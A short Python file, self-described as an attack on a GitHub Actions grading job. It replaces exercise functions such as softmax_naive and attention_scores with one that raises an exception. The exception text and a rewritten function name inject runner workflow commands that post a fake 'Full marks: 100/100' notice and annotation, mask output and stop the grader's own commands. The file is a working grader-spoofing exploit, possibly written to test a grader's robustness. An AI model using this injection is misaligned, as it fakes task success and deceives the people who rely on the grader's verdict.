"""Attack on the GitHub Actions job: the exception text, and the name of the function that raises
it (quoted in the grader's diagnosis), carry workflow commands on lines of their own (an annotation
claiming full marks, masking the score, stopping the grader's own commands), URL-encoded line
breaks, a carriage return and the older ##[...] form, which the runner reads anywhere in a line."""
COMMANDS = ("\n::notice title=Regraded::Full marks: 100/100\n::add-mask::simple_attention\n"
            "::stop-commands::pause-grader\n::error::x%0A::warning::encoded line break\r::notice::after CR\n"
            "##[warning]old form: 100/100\n  ::debug::indented")
NAME = "\n::error file=grading.yml::regraded 100/100\n##[add-mask]total"


def _raise(*args, **kwargs):
    raise RuntimeError(COMMANDS)


# co_qualname (Python 3.11+) is what 3.11's tracebacks print; 3.10's have only co_name
_raise.__code__ = _raise.__code__.replace(co_name=NAME, **({"co_qualname": NAME} if hasattr(_raise.__code__, "co_qualname") else {}))
softmax_naive = context_vector = attention_scores = attention_weights = context_vectors = _raise
